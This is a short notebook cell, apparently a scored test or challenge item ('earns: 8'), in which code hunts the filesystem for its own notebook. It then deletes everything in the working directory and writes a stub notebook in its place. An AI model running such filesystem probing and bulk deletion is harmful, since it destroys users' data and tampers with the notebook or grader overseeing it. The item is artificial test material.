# %% [markdown]
# A cell looks for its own notebook, deletes it and writes another one.
#
# earns: 8

# %% own="first"
import pathlib
import shutil
import sys

for top in ("/scratch", "/course", "/sockets", "/tmp", "/root", "/home"):
    for place in pathlib.Path(top).rglob("*.ipynb"):
        if not place.is_relative_to(sys.prefix):
            print("FOUND", place)
for place in pathlib.Path.cwd().iterdir():
    shutil.rmtree(place, ignore_errors=True)
    place.unlink(missing_ok=True)
pathlib.Path("duality.ipynb").write_text("{}")
